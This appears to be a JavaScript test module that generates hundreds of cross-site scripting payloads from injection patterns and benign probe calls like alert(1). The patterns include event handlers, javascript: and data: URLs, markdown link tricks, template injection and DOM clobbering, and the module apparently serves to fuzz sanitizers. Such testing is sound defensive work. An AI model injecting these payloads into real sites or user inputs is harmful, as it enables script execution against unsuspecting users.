// SPDX-License-Identifier: AGPL-3.0-or-later
// Scripts as texts: shapes × what they would call. Each calls a trap with its number where it has room for one.
const calls = ["alert(1)", "prompt(1)", "confirm(1)", "trapped(1)", "print()", "eval('trapped(1)')"];
const shapes = [
  "<script>CALL</script>", "<ScRiPt>CALL</sCrIpT>", "<script src=data:,CALL></script>", "</script><script>CALL</script>", "<img src=x onerror=CALL>", "<img src=x onerror='CALL'//", "<svg onload=CALL>",
  "<svg/onload=CALL>", "<svg><script>CALL</script></svg>", "<svg><animate onbegin=CALL attributeName=x dur=1s>", "<math><mtext><img src=x onerror=CALL></mtext></math>", "<iframe srcdoc='<script>CALL</script>'>",
  "<iframe src=javascript:CALL>", "<object data=javascript:CALL>", "<embed src=javascript:CALL>", "<details open ontoggle=CALL>", "<body onload=CALL>", "<input autofocus onfocus=CALL>", "<video src=x onerror=CALL>",
  "<audio src=x onerror=CALL>", "<marquee onstart=CALL>", "<a href=javascript:CALL>x</a>", "<form action=javascript:CALL><button>", "<button formaction=javascript:CALL>x", "<base href=javascript:CALL//>",
  "<meta http-equiv=refresh content='0;url=javascript:CALL'>", "<link rel=stylesheet href=data:,*{x:CALL}>", "<style>@import'javascript:CALL'</style>", "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  "<table background=javascript:CALL>", "<div style=background:url(javascript:CALL)>", "\"><img src=x onerror=CALL>", "'><svg onload=CALL>", "\" onmouseover=CALL x=\"", "' autofocus onfocus=CALL x='", "` onerror=CALL x=`",
  "[x](javascript:CALL)", "[x](JaVaScRiPt:CALL)", "[x](&#106;avascript:CALL)", "[x](java&Tab;script:CALL)", "[x](data:text/html,<script>CALL</script>)", "[x](vbscript:CALL)", "![x](javascript:CALL)", "<javascript:CALL>",
  "[x](<javascript:CALL>)", "![x](x\" onerror=\"CALL)", "[x](https://e.example \"t\" onclick=\"CALL)", "{{constructor.constructor('CALL')()}}", "${CALL}", "]]><script>CALL</script>", "<!--><img src=x onerror=CALL>-->", "--!><svg onload=CALL>",
  "<img name=getElementById><a id=trusted href=x>CALL", "<form id=document><input name=body>CALL", "=HYPERLINK(\"javascript:CALL\")",
];
export const payloads = shapes.flatMap((shape) => calls.map((call) => shape.replaceAll("CALL", call)));

/** As many payloads as have room, beginning with a given one; and how many these were. */
export function packed(room, from, between = " ") {
  let text = "";
  let count = 0;
  while (count < payloads.length) {
    const next = payloads[(from + count) % payloads.length];
    if ([...text].length + next.length + between.length > room) break;
    text += (text ? between : "") + next;
    count += 1;
  }
  return { text: text || payloads.find((one) => one.length <= room) || "<b>".slice(0, room), count };
}
